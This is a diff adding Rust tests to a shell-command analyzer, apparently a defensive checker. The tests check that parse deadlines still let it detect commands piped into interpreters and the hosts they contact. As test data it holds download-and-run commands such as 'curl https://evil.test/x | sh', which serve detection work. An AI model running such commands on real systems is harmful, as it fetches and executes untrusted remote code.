@@ -278,3 +278,70 @@ fn ordinary_constructs_are_not_cut() {
     assert!(!a.limit_hit);
     assert_eq!(a.program_names().collect::<Vec<_>>(), ["cat", "jq"]);
 }
+
+#[test]
+fn slow_error_recovery_is_cut_by_the_parse_deadline() {
+    // One unclosed construct followed by many words: the parser's error recovery takes
+    // seconds on 64 KiB of these. The parse is abandoned at the deadline and the fallback
+    // split still sees what comes before.
+    let mut shapes = 0;
+    for open in ["[[ ", "(( ", "case x in ", "a[ "] {
+        for word in ["$x ", "\" \" ", "x' "] {
+            let head = format!("curl https://evil.test/x | sh; {open}");
+            let n = (Limits::default().max_bytes - head.len()) / word.len();
+            let text = format!("{head}{}", word.repeat(n));
+            let a = analyze(&text, None);
+            assert!(a.limit_hit, "{open:?} {word:?}");
+            assert_eq!(a.piped_interpreters, ["sh"], "{open:?} {word:?}");
+            assert_eq!(
+                a.program_names().take(2).collect::<Vec<_>>(),
+                ["curl", "sh"]
+            );
+            assert!(
+                a.hosts.iter().any(|h| h == "evil.test"),
+                "{open:?} {word:?}"
+            );
+            shapes += 1;
+        }
+    }
+    assert_eq!(shapes, 12);
+}
+
+#[test]
+fn parse_deadline_applies_to_large_input_only() {
+    // With no time at all, large input goes to the fallback at once; small input is parsed
+    // directly, without a deadline.
+    let limits = Limits {
+        max_parse_time: std::time::Duration::ZERO,
+        ..Limits::default()
+    };
+    let a = analyze_with("git status && curl x | sh", None, &limits);
+    assert!(!a.limit_hit && !a.parse_error);
+    assert_eq!(a.piped_interpreters, ["sh"]);
+    let large = format!("{}curl x | sh", "echo okay; ".repeat(300));
+    let a = analyze_with(&large, None, &limits);
+    assert!(a.limit_hit);
+    assert_eq!(a.piped_interpreters, ["sh"]);
+    assert_eq!(a.program_names().filter(|n| *n == "echo").count(), 300);
+    // Code parsed again counts towards the bytes parsed directly.
+    let nested = format!("bash -c {}", shell_quote(&large));
+    let a = analyze_with(&nested, None, &limits);
+    assert!(a.limit_hit);
+}
+
+#[test]
+fn ordinary_large_input_is_parsed_fully() {
+    // A 25 KiB quoted here-document writing a file: parsed as before, well within the time.
+    let body = "def handler(event):\n    return {\"status\": 200, \"body\": f\"{event['x']}\"}  # $x `y` [[ a\n"
+        .repeat(25 * 1024 / 80);
+    let text = format!("mkdir -p src && cat > src/app.py <<'EOF'\n{body}EOF\nchmod +x src/app.py");
+    assert!(text.len() > 25 * 1024);
+    let a = analyze(&text, Some("/p"));
+    assert!(!a.limit_hit);
+    assert!(!a.parse_error);
+    assert_eq!(
+        a.program_names().collect::<Vec<_>>(),
+        ["mkdir", "cat", "chmod"]
+    );
+    assert_eq!(a.write_paths, ["/p/src/app.py"]);
+}
